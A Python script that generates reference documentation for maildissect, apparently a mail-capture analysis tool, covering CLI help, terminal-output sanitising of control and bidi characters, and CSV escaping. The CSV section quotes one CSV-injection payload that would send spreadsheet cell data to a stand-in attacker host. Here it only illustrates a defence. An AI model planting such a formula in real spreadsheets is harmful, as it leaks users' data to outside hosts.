#!/usr/bin/env python3
"""Regenerate the reference pages that come from the code.

    python docs/gen.py          # rewrite docs/data.md, limits.md, anomalies.md, cli.md
    python docs/gen.py --check  # exit 1 if any of them is out of date (the test suite runs this)
"""

from __future__ import annotations

import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))


def cli_markdown() -> str:
    import click

    from maildissect.cli import cli
    lines = ["# Command line", "",
             "Generated from `maildissect --help` and each command's help (`python docs/gen.py`).", "",
             "Exit status: 0 on success (anomalies in the input do not change it), 1 for an input that "
             "cannot be read (a file that is not a capture, a missing file) or an environment problem "
             "(no capture permission), 2 for a usage error. Errors are one line on stderr, prefixed "
             "`maildissect: error:`; warnings (a truncated capture...) are prefixed `maildissect: warning:` "
             "and silenced by `--quiet`.", ""]
    lines += output_markdown()
    ctx = click.Context(cli, info_name="maildissect", terminal_width=100, max_content_width=100)
    lines += ["## maildissect", "", "```", cli.get_help(ctx), "```", ""]
    for name in sorted(cli.commands):
        cmd = cli.commands[name]
        sub = click.Context(cmd, info_name=f"maildissect {name}", parent=None, terminal_width=100,
                            max_content_width=100)
        lines += [f"## maildissect {name}", "", "```", cmd.get_help(sub), "```", ""]
    return "\n".join(lines)


def output_markdown() -> list[str]:
    """How terminal tables are laid out and what reaches a terminal or a spreadsheet."""
    from maildissect.output import tables

    def names(cols) -> str:
        return ", ".join(f"`{c}`" for c in sorted(cols))
    lines = [
        "## Terminal output", "",
        "### Tables that fit", "",
        "On a terminal a table is as wide as the terminal (`COLUMNS` when it is set). When its columns "
        "do not fit, the least important are left out (the order below), and so are columns with nothing "
        "to show; the others share the width. Only free text is ever cut, with an ellipsis (`\u2026`) on "
        f"one line: {names(tables.FREE_TEXT)}. Every other value (identifiers, hashes, addresses, file "
        "names, Message-IDs, timestamps) is shown whole: addresses and lists wrap between words or "
        "items, and a single word wider than its column (at most "
        f"{tables.MAX_WHOLE_WIDTH} characters, so a sha256 fits) continues on the next line of its cell.", "",
        "`--wide`, or output that is not a terminal (a pipe, `-o FILE`), prints every column of the "
        "table's view with whole values, one line per row, as wide as they need (no trailing spaces). "
        "`--format jsonl/csv/parquet` write every column of the table.", "",
        "The messages table adds an `envelope` column when, for some message, the SMTP envelope differs "
        "from the To and Cc headers: the accepted recipients, then the refused ones marked `(refused)` "
        "(a Bcc recipient shows here, a refused one too).", "",
        "Columns from the most to the least important (a narrow terminal drops from the right):", "",
        "| table | columns |", "|---|---|",
    ]
    label = {"events": "events (timeline)", "hops": "hops (journeys)",
             "anomaly_counts": "anomaly counts (analyze)"}
    for table, cols in tables.PRIORITY.items():
        lines.append(f"| {label.get(table, table)} | {', '.join(cols)} |")
    lines += [
        "",
        "### Text from the capture", "",
        "Every string printed for a person (table cells, titles, the analyze panel, journeys' Received "
        "notes, `live` lines, warnings and errors that quote a file name or data) was chosen by whoever "
        "sent the mail, so it passes through one cleaner (`maildissect/output/terminal.py`) and reaches "
        "the terminal as text, never as instructions or rich markup (`[link=...]`, `[/x]` are shown as "
        "written). What the cleaner shows instead of a character a terminal would obey or not show:", "",
        "| in the data | shown as |", "|---|---|",
        "| C0 controls U+0000-U+001F, DEL | the Unicode control pictures: `\u2400`...`\u241f`, `\u2421` "
        "(ESC `\u241b`, TAB `\u2409`, LF `\u240a`, CR `\u240d`, BEL `\u2407`) |",
        "| C1 controls U+0080-U+009F (U+009B is CSI on many terminals) | `\u27e8U+009B\u27e9` |",
        "| bidi embeddings, overrides, isolates and marks (U+202A-U+202E, U+2066-U+2069, U+200E, U+200F, "
        "U+061C), other format characters (zero-width spaces and joiners, BOM, soft hyphen, tag "
        "characters), U+2028/U+2029, the fillers U+034F, U+115F, U+1160, U+3164, U+FFA0 | "
        "`\u27e8U+202E\u27e9` |",
        "| a lone surrogate (text that is not Unicode) | `\ufffd` |",
        "| the placeholder glyphs themselves (U+2400-U+2421, `\u27e8`) | `\u27e8U+241B\u27e9` |", "",
        "So the rendering is unambiguous: every `\u241b` on screen was an ESC byte and every `\u27e8` "
        "opens a placeholder. `follow --format ascii` prints tshark's text (printable ASCII, TAB, LF, CR; "
        "any other byte as `.`); on a terminal a CR that does not end a line is shown as `.` too, since "
        "it would let the bytes after it overwrite the line. JSON lines (`-f jsonl`, `live --format "
        "jsonl`) write the same characters as `\\u` escapes: the same JSON values, inert on a terminal.", "",
        "### CSV", "",
        "Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some a TAB or CR) as a "
        "formula. In every CSV maildissect writes (`-f csv` of the listing commands, `timeline` and "
        "`journeys`, `export -f csv`, extract's `index.csv`) such a text cell gets a leading `'`, "
        "OWASP's advice on CSV injection: `=HYPERLINK(\"https://evil.test/?\"&A2)` is written "
        "`'=HYPERLINK(...)`, a POP3 reply `-ERR` is written `'-ERR`. Numbers are not text and are never "
        "changed (a negative latency stays a number); list cells are JSON text (`[\"=a@b\"]`) and start "
        "with `[`. `--csv-raw` writes text cells as they are, for programs that read the CSV.", "",
    ]
    return lines


def pages() -> dict[str, str]:
    from maildissect import anomalies, frames
    from maildissect.config import limits_markdown
    return {
        "data.md": frames.markdown(),
        "limits.md": limits_markdown(),
        "anomalies.md": anomalies.markdown(),
        "cli.md": cli_markdown(),
    }


def main() -> int:
    check = "--check" in sys.argv
    stale = []
    for name, text in pages().items():
        path = HERE / name
        if check:
            if not path.exists() or path.read_text() != text:
                stale.append(name)
        else:
            path.write_text(text)
    if stale:
        print("out of date (run python docs/gen.py): " + ", ".join(stale))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
